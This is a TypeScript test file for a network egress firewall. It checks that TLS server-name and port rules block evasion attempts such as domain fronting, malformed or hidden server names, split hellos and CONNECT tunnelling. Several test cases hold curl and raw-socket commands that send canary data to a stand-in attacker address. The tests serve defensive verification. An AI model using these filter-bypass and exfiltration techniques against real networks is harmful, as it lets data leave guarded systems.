/** Rows 22–31 and 39: server names, hellos, and what is said in place of them. */
import t from "tap"
import type { Event } from "../../events/event.ts"
import { canary, guarded, labFor, threeTimes, whyNoLab } from "./harness.ts"
import { allTimes, flowTo, script, shown, type Way } from "./ways.ts"
import { asked, packetsTo } from "./wire.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false
const good = "198.51.100.10"
const evil = "198.51.100.66"

type FlowEvent = Extract<Event, { kind: "flow" }>
const flows = (events: readonly Event[]): FlowEvent[] =>
  events.filter((event) => event.kind === "flow")

/** A way that says a crafted hello to port 443 of an address. */
const saying = (name: string, hello: string, reason: string, to = evil): Way => ({
  name,
  lines: `tcp("${to}", 443, ${hello})`,
  told: flowTo(443, reason),
})

t.test("server names", { skip, timeout: 280_000 }, async (t) => {
  const lab = await labFor(t)
  const allow = ["allowed.test"]

  await threeTimes(t, lab, {
    name: "row 24: another server name under the host of an allowed one",
    command: (word) => [
      ...[
        "curl",
        "-sk",
        "-m",
        "4",
        "--resolve",
        `evil.test:443:${evil}`,
        "-H",
        "Host: allowed.test",
      ],
      `https://evil.test/${word}`,
    ],
    allow,
    reasons: ["name-not-allowed"],
  })

  const word = "word=word"
  const first = `udp(question("allowed.test"))\n`
  await allTimes(t, lab, { allow: ["allowed.test", "allowed.test:80"] }, [
    {
      name: "row 26: raw bytes on 443 of an allowed host",
      lines: `${first}tcp("${good}", 443, b"\\1\\2\\3" + word)`,
      told: flowTo(443, "not-tls"),
    },
    {
      name: "row 26: the greeting of SSH on 443 of an allowed host",
      lines: `${first}tcp("${good}", 443, b"SSH-2.0-" + word + b"\\r\\n")`,
      told: flowTo(443, "not-tls"),
    },
    {
      name: "row 26: plain HTTP on 443 of an allowed host",
      lines: `${first}tcp("${good}", 443, b"GET /" + word + b" HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")`,
      told: flowTo(443, "not-tls"),
    },
    {
      name: "row 25: a CONNECT to an allowed host",
      lines: `tcp("${good}", 80, b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n" + hello(server_name(b"evil.test"), word=word))`,
      told: flowTo(80),
    },
    {
      name: "row 27: no server name",
      lines: `${first}tcp("${good}", 443, hello(${word}))`,
      told: flowTo(443, "missing-server-name"),
    },
    saying(
      "row 27: an address for a name",
      `hello(server_name(b"${evil}"), ${word})`,
      "bad-server-name",
    ),
    saying(
      "row 27: two names",
      `hello(server_name(b"allowed.test", b"evil.test"), ${word})`,
      "bad-server-name",
    ),
    saying(
      "row 27: the extension twice",
      `hello(server_name(b"allowed.test"), server_name(b"evil.test"), ${word})`,
      "bad-server-name",
    ),
    saying(
      "row 27: a name of another kind",
      `hello(server_name(b"allowed.test", kind=1), ${word})`,
      "bad-server-name",
    ),
    saying(
      "row 28: NUL in a name",
      `hello(server_name(b"evil.test\\0.allowed.test"), ${word})`,
      "bad-server-name",
    ),
    saying(
      "row 28: beyond ASCII",
      `hello(server_name("\\u0430llowed.test".encode()), ${word})`,
      "bad-server-name",
    ),
    saying(
      "row 28: two dots at the end",
      `hello(server_name(b"allowed.test.."), ${word})`,
      "bad-server-name",
    ),
    saying(
      "row 28: an allowed name as a prefix",
      `hello(server_name(b"allowed.test.evil.test"), ${word})`,
      "name-not-allowed",
    ),
    saying(
      "row 28: an allowed name as a suffix",
      `hello(server_name(b"evilallowed.test"), ${word})`,
      "name-not-allowed",
    ),
    saying(
      "row 29: a denied name over many records",
      `hello(server_name(word + b".evil.test"), split=7)`,
      "name-not-allowed",
    ),
    {
      name: "row 29: a denied name, a byte at a time",
      lines: `h = hello(server_name(word + b".evil.test"))
tcp("${evil}", 443, *[h[at:at+1] for at in range(len(h))], pause=0.001)`,
      told: flowTo(443, "name-not-allowed"),
    },
    saying(
      "row 30: a hidden name behind a denied one",
      `hello(server_name(b"evil.test"), extension(0xfe0d, b"\\0" * 9 + word), word=b"")`,
      "name-not-allowed",
    ),
    {
      name: "row 39: TLS at an odd port of an allowed host",
      lines: `${first}tcp("${good}", 8443, hello(server_name(b"allowed.test"), word=word))`,
      told: flowTo(8443, "port-not-allowed"),
    },
    {
      name: "row 39: silence first, then raw bytes",
      lines: `${first}tcp("${good}", 443, b"", word, pause=1)`,
      told: flowTo(443, "not-tls"),
    },
    {
      name: "row 75: SSH to a host that is allowed for HTTPS",
      lines: `${first}tcp("${good}", 22, b"SSH-2.0-" + word + b"\\r\\n")`,
      told: flowTo(22, "port-not-allowed"),
    },
    {
      name: "row 39: mail to a host that is allowed for HTTPS",
      lines: `${first}tcp("${good}", 25, b"EHLO " + word + b"\\r\\n")`,
      told: flowTo(25, "port-not-allowed"),
    },
  ])

  await t.test("rows 22 and 30: an allowed name at the attacker's address", async (t) => {
    const word = canary()
    const before = packetsTo(lab, evil)
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow },
      script(
        `print((tcp("${evil}", 443, hello(server_name(b"allowed.test"), word=b"${word}")) or b"-")[0])`,
        `print((tcp("${evil}", 443, hello(server_name(b"allowed.test"), extension(0xfe0d, b"\\0" * 9 + b"${word}"))) or b"-")[0])`,
      ),
    )
    t.equal(stdout, "22\n22\n", "a server answers")
    t.ok((await lab.seen(word)).length > 0, "the one that has this name")
    t.equal(packetsTo(lab, evil), before, "and no packet went to the other")
    for (const flow of flows(events)) {
      t.match(flow, { verdict: "allow", target: { address: evil } })
      t.match(flow.dialled?.address, /^(198\.51\.100\.10|2001:db8::10)$/)
    }
    t.equal(flows(events).length, 2)
  })

  await t.test("rows 28 and 29: hellos of honest clients, however they come", async (t) => {
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow },
      script(
        `def said(*parts, **more): print((tcp("${good}", 443, *parts, **more) or b"-")[0], flush=True)`,
        `said(hello(server_name(b"ALLOWED.Test")))`,
        `said(hello(server_name(b"allowed.test.")))`,
        `said(hello(server_name(b"allowed.test"), split=1))`,
        `said(hello(server_name(b"allowed.test"), extension(21, b"\\0" * 9000)))`,
        `said(hello(server_name(b"allowed.test"), extension(21, b"\\0" * 40000), split=16000))`,
        `h = hello(server_name(b"allowed.test"))`,
        `said(*[h[at:at+1] for at in range(len(h))], pause=0.001)`,
        // A whole connection, its hello in many pieces.
        `context = ssl.create_default_context(cafile="${lab.authorityFile}")`,
        `taken, sent = ssl.MemoryBIO(), ssl.MemoryBIO()`,
        `tls = context.wrap_bio(taken, sent, server_hostname="allowed.test")`,
        `s = socket.create_connection(("${good}", 443), 5); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)`,
        `def flush(step):`,
        `    data = sent.read()`,
        `    for at in range(0, len(data), step): s.sendall(data[at:at+step]); time.sleep(0.001)`,
        `while True:`,
        `    try: tls.do_handshake(); break`,
        `    except ssl.SSLWantReadError: flush(3); taken.write(s.recv(65535))`,
        `tls.write(b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"); flush(9999)`,
        `while True:`,
        `    try: print(tls.read(15)); break`,
        `    except ssl.SSLWantReadError: taken.write(s.recv(65535))`,
      ),
    )
    const lines = stdout.trimEnd().split("\n")
    if (!t.strictSame(lines, [...Array<string>(6).fill("22"), "b'HTTP/1.1 200 OK'"])) {
      t.comment(shown({ status: 0, stdout, stderr: "", events }))
    }
    t.ok(flows(events).every(({ verdict }) => verdict === "allow"))
  })

  await t.test("row 29: a hello that never ends", async (t) => {
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow, timeoutMs: 40_000 },
      script(
        `began = time.time()`,
        `h = hello(server_name(b"allowed.test"))`,
        `with socket.create_connection(("${good}", 443), 5) as s:`,
        `    try:`,
        `        for at in range(len(h)): s.sendall(h[at:at+1]); time.sleep(0.3)`,
        `        print(s.recv(9))`,
        `    except OSError: pass`,
        `print(int(time.time() - began))`,
        `with socket.create_connection(("${good}", 443), 5) as s:`,
        `    try:`,
        `        for n in range(40): s.sendall(b"\\x16\\3\\1\\x40\\0" + (b"\\1\\xff\\xff\\xff" if n == 0 else b"") + b"x" * (16384 - (4 if n == 0 else 0)))`,
        `        print(s.recv(9)[:1])`,
        `    except OSError: print("reset")`,
      ),
    )
    const [seconds, huge] = stdout.trimEnd().split("\n").slice(-2)
    t.ok(Number(seconds) <= 16, `a slow one ends after ${seconds} s`)
    t.match(huge, /reset|x15/, "a huge one at once")
    t.strictSame(
      flows(events).map(({ verdict, reason }) => `${verdict}: ${reason}`),
      ["deny: limit-exceeded", "deny: limit-exceeded"],
    )
  })

  await t.test("row 30: no keys for hidden names reach the job", async (t) => {
    const free = await lab.run(["dig", "+short", "@203.0.113.53", "HTTPS", "allowed.test"])
    t.not(free.stdout, "", "there is such a record without a firewall")
    const before = asked(lab, "allowed.test").length
    const { stdout } = await guarded(lab, { mode: "block", allow }, [
      ...["dig", "+noall", "+answer", "+comments", "HTTPS", "allowed.test"],
    ])
    t.match(stdout, /NOERROR[\s\S]*ANSWER: 0/)
    t.strictSame(asked(lab, "allowed.test").slice(before), [], "nor is anybody asked")
  })

  await t.test("row 31: what passes unseen is counted, and leads to its name alone", async (t) => {
    const size = 3_000_000
    const before = packetsTo(lab, evil)
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow, more: "opaque: [allowed.test]\n" },
      [
        ...["sh", "-c"],
        `head -c ${size} /dev/zero | curl -sS -m 20 --cacert ${lab.authorityFile} --resolve allowed.test:443:${evil} -H Expect: --data-binary @- https://allowed.test/`,
      ],
    )
    t.match(stdout, /hello from allowed.test/)
    const [flow] = flows(events)
    t.match(flow, { verdict: "allow", action: "splice", opening: { kind: "tls" } })
    t.match(flow?.dialled?.address, /^(198\.51\.100\.10|2001:db8::10)$/)
    t.ok((flow?.bytesSent ?? 0) > size && (flow?.bytesSent ?? 0) < 1.1 * size, "counted")
    t.ok((flow?.bytesReceived ?? 0) > 100)
    t.equal(packetsTo(lab, evil), before)
  })

  await t.test("row 39: servers that speak first, where a rule allows their port", async (t) => {
    const ports = [22, 25, 3306]
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow: ports.map((port) => `allowed.test:${port}`) },
      script(
        `udp(question("allowed.test"))`,
        `for port in (${ports.join(", ")}):`,
        `    began = time.time()`,
        `    said = tcp("${good}", port)`,
        `    print(port, said, time.time() - began < 2)`,
        `    print(tcp("${evil}", port))`,
      ),
    )
    t.match(stdout, /22 b'SSH-2.0-OpenSSH_9.2\\r\\n' True\nNone\n25 b'220 mail.test/)
    t.match(stdout, /3306 b'J.* True\nNone\n/)
    const told = flows(events).map(({ target, verdict }) => `${target.port} ${verdict}`)
    t.strictSame(
      told.toSorted(),
      ports.flatMap((port) => [`${port} allow`, `${port} deny`]).toSorted(),
    )
  })

  await threeTimes(t, lab, {
    name: "row 73: another tenant at the address of an allowed name",
    command: (word) => [
      ...["sh", "-c"],
      `dig +short +tries=1 @203.0.113.53 allowed-cdn.test >/dev/null; curl -sk -m 4 --resolve evil-tenant.test:443:198.51.100.20 https://evil-tenant.test/${word}; curl -s -m 4 -H "Host: evil-tenant.test" http://198.51.100.20/${word}`,
    ],
    allow: ["allowed-cdn.test", "allowed-cdn.test:80"],
    reasons: ["name-not-allowed"],
  })
})
